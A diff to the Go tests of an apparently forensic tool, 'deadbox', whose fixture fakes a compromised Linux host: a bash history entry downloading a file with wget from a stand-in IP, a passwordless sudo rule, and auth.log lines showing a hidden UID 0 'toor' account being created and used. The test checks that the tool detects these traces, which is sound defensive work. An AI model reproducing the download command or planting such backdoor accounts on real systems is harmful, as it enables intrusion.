@@ -6,10 +6,12 @@ import (
 	"net/netip"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	"deadbox/timeline"
 	"deadbox/timeline/artifact"
 )
 
@@ -46,7 +48,8 @@ func makeTree(t *testing.T) string {
 		"etc/sudoers":                         "%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n",
 		"home/anna/.ssh/authorized_keys":      key + "\n",
 		"home/anna/.bash_history":             "#1700000100\nls -la\n#1700000160\nwget http://203.0.113.5/x\n",
-		"var/log/auth.log":                    "2023-11-14T22:13:18+00:00 srv01 sshd[900]: Accepted publickey for anna from 192.0.2.7 port 50000 ssh2: ED25519 SHA256:eM2OH61T+Wma/vkCLjYtyL+r3EXr8iVhXbajlcSAGbs\n2023-11-14T22:20:00+00:00 srv01 sshd[901]: Failed password for root from 203.0.113.9 port 40000 ssh2\n2023-11-14T22:20:01+00:00 srv01 sshd[901]: Failed password for root from 203.0.113.9 port 40000 ssh2\n",
+		"var/log/auth.log":                    "2023-11-14T22:13:18+00:00 srv01 sshd[900]: Accepted publickey for anna from 192.0.2.7 port 50000 ssh2: ED25519 SHA256:eM2OH61T+Wma/vkCLjYtyL+r3EXr8iVhXbajlcSAGbs\n2023-11-14T22:20:00+00:00 srv01 sshd[901]: Failed password for root from 203.0.113.9 port 40000 ssh2\n2023-11-14T22:20:01+00:00 srv01 sshd[901]: Failed password for root from 203.0.113.9 port 40000 ssh2\n2023-11-14T22:21:00+00:00 srv01 useradd[905]: new user: name=toor, UID=0, GID=0, home=/, shell=/bin/sh, from=none\n2023-11-14T22:22:00+00:00 srv01 sshd[906]: Accepted password for toor from 198.51.100.4 port 50001 ssh2\n",
+		"home/anna/.viminfo":                  "# Jumplist (newest first):\n-'  1  0  ~/note.txt\n|4,39,1,0,1700000400,\"~/note.txt\"\n",
 		"var/log/syslog":                      "2023-11-14T22:15:00+00:00 srv01 app[5]: one\n2023-11-14T22:16:00+00:00 srv01 mailer[6]: twice\n",
 		"var/log/mail.log":                    "2023-11-14T22:16:00+00:00 srv01 mailer[6]: twice\n",
 		"var/log/wtmp":                        utmpRecord(7, 900, "pts/0", "anna", "192.0.2.7", start) + utmpRecord(8, 900, "pts/0", "", "", start+600),
@@ -98,9 +101,9 @@ func TestRecordCommands(t *testing.T) {
 		{"each", []string{"logins", dir, "--failed", "--each"}, []string{"Failed password for root"}, []string{"Accepted"}},
 		{"accounts", []string{"accounts", dir}, []string{
 			"anna 1000 /bin/bash set, sha512 2022-01-08 anna,sudo anna@desk ALL as ALL without a password 2023-11-14 22:13:20+00:00 192.0.2.7",
-			"toor 0 /bin/sh none 2023-08-31 root uid 0, no password needed", "1 more account that cannot log in: --all lists them."}, []string{"$6$", "daemon"}},
+			"toor 0 /bin/sh none 2023-08-31 root 2023-11-14 22:22:00+00:00 198.51.100.4 uid 0, no password needed", "2023-11-14 22:21:00+00:00 useradd[905]: new user: name=toor, UID=0, GID=0, home=/, shell=/bin/sh, from=none /var/log/auth.log:4", "1 more account that cannot log in: --all lists them."}, []string{"$6$", "daemon"}},
 		{"all accounts", []string{"accounts", dir, "--all"}, []string{"daemon 1 /usr/sbin/nologin disabled"}, []string{"hash"}},
-		{"history", []string{"history", dir}, []string{"1 2023-11-14 22:15:00+00:00 ls -la", "wget http://203.0.113.5/x"}, nil},
+		{"history", []string{"history", dir}, []string{"1 2023-11-14 22:15:00+00:00 ls -la", "wget http://203.0.113.5/x", "2023-11-14 22:20:00+00:00 vim had open /home/anna/note.txt"}, nil},
 		{"history grep", []string{"history", dir, "--grep", "wget"}, []string{"wget"}, []string{"ls -la"}},
 		{"history of", []string{"history", dir, "--account", "root"}, nil, []string{"wget"}},
 		{"logs", []string{"logs", dir, "--from", "2023-11-14 22:14", "--to", "2023-11-14 22:16"}, []string{"app[5]: one", "mailer[6]: twice", "UNION"}, []string{"Accepted", "Failed"}},
@@ -212,5 +215,20 @@ func TestExtractorNames(t *testing.T) {
 	}
 	if len(artifact.All) < 40 {
 		t.Errorf("%d extractors", len(artifact.All))
+	}
+}
+
+// TestSiteTable shows where a part of the configuration that is no site's own leads to.
+func TestSiteTable(t *testing.T) {
+	list := []timeline.Record{
+		{Fields: map[string]string{"name": "a.example.org", "path": "/srv/a", "aliases": "/x/=/y", "enabled": "yes"}},
+		{Fields: map[string]string{"aliases": "/icons/=/usr/share/icons", "enabled": "yes"}},
+	}
+	var got []string
+	for _, row := range siteTable(list).rows {
+		got = append(got, row[2])
+	}
+	if want := []string{"/srv/a", "aliases /icons/=/usr/share/icons"}; !slices.Equal(got, want) {
+		t.Errorf("%q, want %q", got, want)
 	}
 }
